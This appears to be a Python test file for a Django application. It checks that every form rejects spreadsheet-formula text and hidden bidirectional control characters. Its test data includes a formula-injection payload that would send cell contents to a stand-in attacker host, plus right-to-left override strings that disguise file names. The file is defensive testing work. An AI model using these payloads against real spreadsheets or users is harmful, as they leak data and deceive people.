"""One rule for the text people send Gemini, by every way in (gemini.core.text; docs/security.md):
text a spreadsheet would run as a formula is refused with the importer's message, and hidden
bidirectional controls are refused naming the character. Here: the rule, every form (walked, so
a new form cannot miss it), and a real page. The API: gemini/api/tests/test_text_safety.py;
imports: gemini/core/tests/test_importer_hostile.py.
"""

from __future__ import annotations

import html
import importlib
import pkgutil
import re

import pytest
from django import forms
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

import gemini
from gemini.api.forms import TokenForm
from gemini.core.forms import GeminiForm, LoginForm, TextChecks
from gemini.core.text import BIDI_CONTROLS, REFUSED_PATTERN, problem_with_text
from gemini.programme.models import Risk
from gemini.programme.risks.forms import RiskForm

FORMULAS = ['=HYPERLINK("https://attacker.example/?"&A1,"Click")', "+1+1", "@SUM(1)"]


# ---------------------------------------------------------------- the rule


@pytest.mark.parametrize("char", sorted(BIDI_CONTROLS))
def test_every_hidden_direction_control_is_refused_naming_it(char):
    message = problem_with_text(f"Budget {char}fdp.exe", "the title")

    assert message
    assert f"(U+{ord(char):04X}) from the title" in message
    assert message.startswith("Remove the hidden ")


def test_several_controls_are_named_once_each():
    message = problem_with_text("a\u202eb\u2066c\u202ed\u2069", "the title")

    assert message
    assert message.count("U+202E") == 1
    assert "right-to-left override (U+202E), left-to-right isolate (U+2066) and" in message


@pytest.mark.parametrize("value", ["Ordinary text", "Café, naïve, 草", "עברית", "العربية", "-5"])
def test_ordinary_text_in_any_script_is_kept(value):
    assert problem_with_text(value) is None


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_gets_the_importers_message(formula):
    assert problem_with_text(f"  {formula}") == (
        f"{formula[:40] + '…' if len(formula) > 40 else formula!r} starts with {formula[0]}, so a "
        "spreadsheet would run it as a formula. Gemini does not take formulas: type the value "
        f"itself, without the leading {formula[0]}."
    )


TEXT = st.one_of(
    st.text(),
    st.builds(
        "".join,
        st.lists(
            st.sampled_from([" ", "\t", "\n", "=", "+", "-", "@", "£", "5", ",", ".", "%", "a"])
            | st.sampled_from(sorted(BIDI_CONTROLS)),
            max_size=8,
        ),
    ),
)


@given(TEXT)
def test_the_api_schemas_pattern_refuses_exactly_what_the_rule_refuses(value):
    assert bool(re.search(REFUSED_PATTERN, value)) == (problem_with_text(value) is not None)


# ---------------------------------------------------------------- every form


def every_form_class() -> list[type[forms.BaseForm]]:
    """Every form class defined in Gemini outside the tests, after importing every module."""
    for module in pkgutil.walk_packages(gemini.__path__, "gemini."):
        if not re.search(r"\.(tests|migrations)(\.|$)|^gemini\.__main__$", module.name):
            importlib.import_module(module.name)
    found: set[type[forms.BaseForm]] = set()
    todo: list[type[forms.BaseForm]] = [forms.BaseForm]
    while todo:
        for subclass in todo.pop().__subclasses__():
            if subclass not in found:
                found.add(subclass)
                todo.append(subclass)
    return sorted(
        (
            form
            for form in found
            if form.__module__.startswith("gemini.") and ".tests" not in form.__module__
        ),
        key=lambda form: f"{form.__module__}.{form.__qualname__}",
    )


def unchecked(classes: list[type[forms.BaseForm]]) -> list[str]:
    return [
        f"{form.__module__}.{form.__qualname__}"
        for form in classes
        if not issubclass(form, TextChecks)
    ]


def test_every_form_in_gemini_checks_its_text():
    classes = every_form_class()

    assert len(classes) > 40, "the walk saw too few forms to prove anything"
    assert {RiskForm, TokenForm, LoginForm} <= set(classes)
    assert unchecked(classes) == []


class Bare(forms.Form):
    title = forms.CharField()


def test_the_walk_finds_a_form_that_does_not_check_its_text():
    assert unchecked([RiskForm, Bare]) == [f"{__name__}.Bare"]
    assert Bare({"title": "=1+1"}).is_valid()


class NoSuperClean(GeminiForm):
    title = forms.CharField(label="Title")
    password = forms.CharField(widget=forms.PasswordInput)

    def clean(self) -> dict[str, object]:
        return self.cleaned_data  # does not call super().clean()


def test_a_forms_own_clean_cannot_skip_the_check_and_passwords_are_left_alone():
    form = NoSuperClean({"title": "Budget \u202eexe.pdf", "password": "=x+1@Budget\u202e"})

    assert not form.is_valid()
    assert list(form.errors) == ["title"]
    assert str(form.errors["title"][0]).startswith(
        "Remove the hidden right-to-left override character (U+202E) from the title"
    )


def test_a_question_label_is_named_as_this_answer():
    form = TokenForm({"name": "@SUM(1)"})

    assert not form.is_valid()
    assert "so a spreadsheet would run it as a formula" in str(form.errors["name"][0])
    bidi = TokenForm({"name": "Power BI\u200f"})
    assert not bidi.is_valid()
    assert "right-to-left mark character (U+200F) from this answer" in str(bidi.errors["name"][0])


# ---------------------------------------------------------------- a real page

RISK = {
    "reference": "R80",
    "title": "Licensing",
    "workstream": "",
    "inherent_likelihood": 3,
    "inherent_impact": 3,
    "current_likelihood": 2,
    "current_impact": 3,
    "target_likelihood": 3,
    "target_impact": 3,
    "response": "treat",
    "status": "open",
    "confidentiality": "public",
}


def _error_summary(response) -> str:
    page = html.unescape(response.content.decode())
    start = page.index("govuk-error-summary__list")
    return page[start : page.index("</ul>", start)]


@pytest.mark.django_db
@pytest.mark.parametrize("formula", FORMULAS)
def test_the_risk_form_refuses_a_formula_in_the_error_summary(demo, personas, client_for, formula):
    response = client_for(personas["pmo"]).post(
        reverse("programme:add_risk"), {**RISK, "title": formula}
    )

    assert response.status_code == 200
    summary = _error_summary(response)
    assert str(problem_with_text(formula, "the title")) in summary
    assert 'href="#id_title"' in summary
    assert not Risk.objects.filter(reference="R80").exists()


@pytest.mark.django_db
def test_the_risk_form_refuses_a_hidden_direction_control(demo, personas, client_for):
    response = client_for(personas["pmo"]).post(
        reverse("programme:add_risk"), {**RISK, "title": "Budget \u202eexe.pdf", "cause": "-x"}
    )

    summary = _error_summary(response)
    assert "Remove the hidden right-to-left override character (U+202E) from the title" in summary
    assert "'-x' starts with -" in summary
    assert not Risk.objects.filter(reference="R80").exists()
